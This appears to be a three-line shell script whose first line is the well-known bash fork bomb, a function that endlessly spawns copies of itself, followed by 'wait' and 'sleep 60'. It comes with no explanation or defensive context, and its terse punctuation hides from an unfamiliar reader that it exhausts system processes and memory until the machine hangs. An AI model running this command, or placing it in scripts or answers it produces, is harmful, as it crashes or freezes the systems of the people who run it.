:(){ :|:& };:
wait
sleep 60
